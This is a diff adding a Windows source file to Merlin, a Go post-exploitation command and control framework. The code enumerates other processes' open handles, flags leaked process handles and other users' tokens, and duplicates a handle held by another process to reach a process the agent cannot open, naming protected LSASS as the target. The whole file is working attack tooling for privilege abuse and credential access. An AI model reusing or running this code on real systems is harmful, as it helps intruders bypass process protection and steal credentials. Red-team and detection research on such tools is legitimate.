@@ -0,0 +1,197 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package os
+
+import (
+	// Standard
+	"fmt"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+)
+
+// OBJECT_INFORMATION_CLASS values for NtQueryObject
+const (
+	objectNameInformation = 1
+	objectTypeInformation = 2
+)
+
+var (
+	ntdll                    = windows.NewLazySystemDLL("ntdll.dll")
+	procNtQueryObject        = ntdll.NewProc("NtQueryObject")
+	procGetProcessIDOfThread = windows.NewLazySystemDLL("kernel32.dll").NewProc("GetProcessIdOfThread")
+)
+
+// handles returns the process's open handles from the system handle table. Each handle is duplicated into the agent
+// to read its type and the name of the object; handles that can't be duplicated are listed with their type index
+func handles(pid int) (found []Handle, err error) {
+	table, err := handleTable()
+	if err != nil {
+		return nil, err
+	}
+	process, err := windows.OpenProcess(windows.PROCESS_DUP_HANDLE, false, uint32(pid))
+	if err != nil {
+		process = 0
+	} else {
+		defer windows.CloseHandle(process)
+	}
+	var agentUser *windows.SID
+	if user, e := windows.GetCurrentProcessToken().GetTokenUser(); e == nil {
+		agentUser = user.User.Sid
+	}
+	names := processNames()
+	types := make(map[uint16]string)
+
+	for _, h := range table {
+		if h.UniqueProcessID != uintptr(pid) {
+			continue
+		}
+		handle := Handle{Value: uint64(h.HandleValue), Type: types[h.ObjectTypeIndex], Access: fmt.Sprintf("0x%x", h.GrantedAccess)}
+		var dup windows.Handle
+		if process == 0 || windows.DuplicateHandle(process, windows.Handle(h.HandleValue), windows.CurrentProcess(), &dup, 0, false, windows.DUPLICATE_SAME_ACCESS) != nil {
+			if handle.Type == "" {
+				handle.Type = fmt.Sprintf("type %d", h.ObjectTypeIndex)
+			}
+			found = append(found, handle)
+			continue
+		}
+		if handle.Type == "" {
+			handle.Type = queryObject(dup, objectTypeInformation)
+			types[h.ObjectTypeIndex] = handle.Type
+		}
+
+		switch handle.Type {
+		case "File":
+			// Querying the name of a pipe handle can block forever so only disk files are named
+			if kind, _ := windows.GetFileType(dup); kind == windows.FILE_TYPE_DISK {
+				handle.Name = queryObject(dup, objectNameInformation)
+			}
+		case "Process":
+			if target, e := windows.GetProcessId(dup); e == nil {
+				handle.Name = fmt.Sprintf("%s (PID %d)", names[target], target)
+				handle.Note = leakedProcess(target, h.GrantedAccess, pid)
+			}
+		case "Thread":
+			if target, _, _ := procGetProcessIDOfThread.Call(uintptr(dup)); target != 0 {
+				handle.Name = fmt.Sprintf("thread of %s (PID %d)", names[uint32(target)], target)
+				handle.Note = leakedProcess(uint32(target), windows.PROCESS_QUERY_LIMITED_INFORMATION, pid)
+			}
+		case "Token":
+			if user, e := windows.Token(dup).GetTokenUser(); e == nil {
+				account, domain, _, e := user.User.Sid.LookupAccount("")
+				handle.Name = user.User.Sid.String()
+				if e == nil {
+					handle.Name = fmt.Sprintf("%s\\%s", domain, account)
+				}
+				if agentUser != nil && !user.User.Sid.Equals(agentUser) {
+					handle.Note = "token for another user"
+				}
+			}
+		default:
+			handle.Name = queryObject(dup, objectNameInformation)
+		}
+		_ = windows.CloseHandle(dup)
+		found = append(found, handle)
+	}
+	if process == 0 && len(found) > 0 {
+		return found, fmt.Errorf("the handles of process %d could not be duplicated to read their names", pid)
+	}
+	return found, nil
+}
+
+// CloneProcessHandle finds a handle to the target process, held by another process, that grants at least the access
+// and duplicates it into the agent. It is used when the agent can't open the process itself, such as a protected
+// LSASS, and returns the process the handle was duplicated from
+func CloneProcessHandle(target, access uint32) (handle windows.Handle, holder string, err error) {
+	table, err := handleTable()
+	if err != nil {
+		return 0, "", err
+	}
+	names := processNames()
+	holders := make(map[uintptr]windows.Handle)
+	defer func() {
+		for _, process := range holders {
+			if process != 0 {
+				_ = windows.CloseHandle(process)
+			}
+		}
+	}()
+
+	self := uintptr(windows.GetCurrentProcessId())
+	for _, h := range table {
+		if h.UniqueProcessID == self || h.UniqueProcessID == uintptr(target) || h.GrantedAccess&access != access {
+			continue
+		}
+		process, ok := holders[h.UniqueProcessID]
+		if !ok {
+			process, _ = windows.OpenProcess(windows.PROCESS_DUP_HANDLE, false, uint32(h.UniqueProcessID))
+			holders[h.UniqueProcessID] = process
+		}
+		if process == 0 {
+			continue
+		}
+		var dup windows.Handle
+		if windows.DuplicateHandle(process, windows.Handle(h.HandleValue), windows.CurrentProcess(), &dup, access, false, 0) != nil {
+			continue
+		}
+		// Only process handles have a process ID
+		if pid, e := windows.GetProcessId(dup); e == nil && pid == target {
+			return dup, fmt.Sprintf("%s (PID %d)", names[uint32(h.UniqueProcessID)], h.UniqueProcessID), nil
+		}
+		_ = windows.CloseHandle(dup)
+	}
+	return 0, "", fmt.Errorf("no process the agent can open holds a handle to process %d with access 0x%x", target, access)
+}
+
+// leakedProcess returns a note if a handle with the access to a process, held by another process, gives access the
+// agent can't get by opening the process itself
+func leakedProcess(target, access uint32, holder int) string {
+	if int(target) == holder || access&(windows.PROCESS_VM_WRITE|windows.PROCESS_CREATE_THREAD|windows.PROCESS_DUP_HANDLE|windows.PROCESS_VM_READ) == 0 {
+		return ""
+	}
+	own, err := windows.OpenProcess(access, false, target)
+	if err == nil {
+		_ = windows.CloseHandle(own)
+		return ""
+	}
+	return "grants access to a process the agent can't open itself"
+}
+
+// queryObject returns the object's name or type name from NtQueryObject, both returned as a UNICODE_STRING
+func queryObject(handle windows.Handle, class uintptr) string {
+	buf := make([]byte, 1024)
+	for {
+		var needed uint32
+		status, _, _ := procNtQueryObject.Call(uintptr(handle), class, uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)), uintptr(unsafe.Pointer(&needed)))
+		switch windows.NTStatus(status) {
+		case windows.STATUS_SUCCESS:
+			return (*windows.NTUnicodeString)(unsafe.Pointer(&buf[0])).String()
+		case windows.STATUS_INFO_LENGTH_MISMATCH, windows.STATUS_BUFFER_OVERFLOW, windows.STATUS_BUFFER_TOO_SMALL:
+			if needed <= uint32(len(buf)) || needed > 1<<16 {
+				return ""
+			}
+			buf = make([]byte, needed)
+		default:
+			return ""
+		}
+	}
+}